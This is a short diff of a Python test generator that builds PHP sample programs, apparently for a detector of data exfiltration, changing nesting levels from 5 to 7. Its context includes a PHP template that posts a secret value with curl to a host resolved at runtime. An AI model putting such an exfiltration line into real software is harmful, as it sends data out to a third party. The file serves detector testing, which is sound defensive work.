@@ -20,7 +20,7 @@ _SENDS = {
         f"$c = curl_init('https://' . got() . '/'); curl_setopt($c, CURLOPT_POSTFIELDS, {_SALT}); curl_exec($c);",
     ),
 }
-_GAPS = {("letters", 3, "host"), ("exception", 3, "host"), ("closure kept", 5, "host")}
+_GAPS = {("letters", 3, "host"), ("exception", 3, "host"), ("closure kept", 7, "host")}
 """Ways on which the host is `unresolved`: the finding is high, and says so."""
 
 
@@ -30,7 +30,7 @@ def _programs() -> Iterator[tuple[str, int, str, str]]:
             for levels in (0, 3):
                 yield name, levels, what, f"<?php\n{carriers.returned(way, levels, value)}{send}\n"
         for name, place in carriers.KEPT.items():
-            for levels in (0, 1, 5):
+            for levels in (0, 1, 7):
                 yield f"{name} kept", levels, what, f"<?php\n{carriers.kept(place, levels, value)}{send}\n"
 
 
